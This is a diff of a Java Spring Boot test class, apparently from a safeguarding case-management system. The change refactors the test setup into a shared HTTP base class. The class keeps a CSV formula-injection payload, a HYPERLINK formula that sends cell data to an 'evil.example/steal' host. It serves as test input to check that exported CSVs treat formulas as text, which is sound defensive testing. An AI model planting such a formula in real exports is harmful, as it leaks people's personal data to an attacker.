@@ -11,11 +11,10 @@ import com.lowagie.text.pdf.PdfReader;
 import com.lowagie.text.pdf.parser.PdfTextExtractor;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.safeguarding.kernel.testing.Api;
+import org.safeguarding.kernel.testing.ServiceOverHttp;
 import org.springframework.boot.test.context.SpringBootTest;
-import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.test.context.ActiveProfiles;
 import org.springframework.test.context.TestPropertySource;
 
@@ -26,7 +25,7 @@ import org.springframework.test.context.TestPropertySource;
 @SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
 @ActiveProfiles("demo")
 @TestPropertySource(properties = "safeguarding.post-service.url=http://localhost:9")
-abstract class ExportSafetyContract {
+abstract class ExportSafetyContract extends ServiceOverHttp {
 
     private static final String FORMULA = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click for the full record\")";
 
@@ -35,16 +34,6 @@ abstract class ExportSafetyContract {
     private static final String GREEK = "Αλέξανδρος Παπαδόπουλος";
 
     private static final String RUSSIAN = "Дмитрий Иванов";
-
-    @LocalServerPort
-    int port;
-
-    Api api;
-
-    @BeforeEach
-    void setUp() {
-        api = new Api(port);
-    }
 
     @Test
     void aFormulaInTheChronologyCsvIsShownAsTextNeverRun() throws IOException {
